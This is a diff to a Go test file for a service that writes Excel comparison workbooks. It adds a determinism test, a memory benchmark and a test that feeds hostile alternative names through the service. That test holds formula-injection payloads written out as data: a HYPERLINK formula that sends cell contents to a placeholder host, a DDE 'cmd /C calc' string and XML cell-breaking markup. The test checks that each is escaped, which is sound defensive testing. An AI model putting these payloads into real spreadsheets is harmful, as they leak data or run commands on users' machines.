@@ -1,9 +1,11 @@
 package report_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
 	"fmt"
+	"io"
 	"math"
 	"os"
 	"os/exec"
@@ -369,5 +371,138 @@ func TestChangedInputsMoveTheTotalsAsTheServiceDoes(t *testing.T) {
 		if moved < 9 {
 			t.Errorf("%s moves %d figures only", c.name, moved)
 		}
+	}
+}
+
+// A name, of whatever make, is a text: it never is a formula, moves no cursor and ends no
+// cell. What begins like a formula has an apostrophe, as in the files of inventories.
+func TestHostileNamesStayTexts(t *testing.T) {
+	svc := newService(t)
+	hostile := map[string]string{
+		`=HYPERLINK("http://x.invalid/?"&A1,"total")`: `'=HYPERLINK("http://x.invalid/?"&A1,"total")`,
+		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
+		"-2+3":                                        "'-2+3",
+		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
+		"\t=1+1":                                      "\uFFFD=1+1",
+		"a\x00b\x1b[2J\u202ec":                        "a\uFFFDb\uFFFD[2J\uFFFDc",
+		"</t></is></c><c><f>1+1</f></c>":              "</t></is></c><c><f>1+1</f></c>",
+		"_x0041_ A*?~":                                "_x0041_ A*?~",
+		"line\nbreak\u2028\ufffe":                     "line\uFFFDbreak\uFFFD\uFFFD",
+	}
+	var request map[string]any
+	if err := json.Unmarshal(file(t, "demo/comparison.json"), &request); err != nil {
+		t.Fatal(err)
+	}
+	list := request["alternatives"].([]any)
+	var names []string
+	for name := range hostile {
+		names = append(names, name)
+		list = append(list, map[string]any{"name": name, "like": "fibre"})
+	}
+	request["alternatives"] = list
+	text, err := json.Marshal(request)
+	if err != nil {
+		t.Fatal(err)
+	}
+	book := written(t, compared(t, svc, text))
+	f, err := excelize.OpenReader(bytes.NewReader(book))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	opened := map[string]*excelize.File{"as written": f}
+	if _, err := exec.LookPath("soffice"); err == nil || os.Getenv("CI") == "true" {
+		opened["by LibreOffice"] = recalculated(t, map[string][]byte{"hostile": book})["hostile"]
+	}
+	for by, f := range opened {
+		for i, name := range names {
+			for _, sheet := range f.GetSheetList() {
+				if sheet == "Summary" || sheet == "Rates" || sheet == "Prices and factors" || sheet == "Discount factors" || sheet == "Check" {
+					continue
+				}
+				rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+				if err != nil {
+					t.Fatal(err)
+				}
+				n := slices.IndexFunc(rows, func(row []string) bool { return len(row) > 1 && row[0] == fmt.Sprint(4+i) }) + 1
+				if n == 0 {
+					t.Fatalf("%s: %s has no row of alternative %d", by, sheet, 4+i)
+				}
+				formula, err := f.GetCellFormula(sheet, fmt.Sprint("B", n))
+				if got := cell(t, f, sheet, n, "B"); got != hostile[name] || formula != "" || err != nil {
+					t.Errorf("%s: %s: %q is %q, formula %q, %v", by, sheet, name, got, formula, err)
+				}
+			}
+		}
+	}
+}
+
+// The same answer gives the same bytes; nothing of a clock is in them; and no formula has
+// a value that a program could show in place of computing.
+func TestWorkbookIsTheSameWheneverItIsWritten(t *testing.T) {
+	r := compared(t, newService(t), file(t, "demo/comparison.json"))
+	book := written(t, r)
+	for range 5 {
+		if !bytes.Equal(book, written(t, r)) {
+			t.Fatal("the same answer, other bytes")
+		}
+	}
+	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	formulas := 0
+	for _, part := range z.File {
+		if part.Modified.Year() >= 1980 { // before it is how a zip says that it has none
+			t.Errorf("%s has a time, %s", part.Name, part.Modified)
+		}
+		in, err := part.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, err := io.ReadAll(in)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(string(text), "</f><v>") {
+			t.Errorf("%s has a formula with a value", part.Name)
+		}
+		formulas += strings.Count(string(text), "<f>")
+	}
+	if formulas < 1000 {
+		t.Errorf("only %d formulas", formulas)
+	}
+}
+
+// many is the demo with so many alternatives, each thicker than the one before.
+func many(t testing.TB, alternatives int) []byte {
+	t.Helper()
+	var request map[string]any
+	if err := json.Unmarshal(file(t, "demo/comparison.json"), &request); err != nil {
+		t.Fatal(err)
+	}
+	list := request["alternatives"].([]any)
+	for i := len(list); i < alternatives; i++ {
+		list = append(list, map[string]any{"name": fmt.Sprint("thickness ", i), "like": "fibre, staged", "slab": map[string]any{"thickness": fmt.Sprint(200+i/2, " mm")}})
+	}
+	request["alternatives"] = list
+	text, err := json.Marshal(request, json.Deterministic(true))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return text
+}
+
+// The largest comparison is written in bounded memory; a benchmark, as no test asserts a
+// time.
+func BenchmarkWorkbookOf200Alternatives(b *testing.B) {
+	r := compared(b, newService(b), many(b, 200))
+	b.ReportAllocs()
+	for b.Loop() {
+		var out bytes.Buffer
+		if err := report.Workbook(&out, r); err != nil {
+			b.Fatal(err)
+		}
+		b.ReportMetric(float64(out.Len()), "bytes/file")
 	}
 }
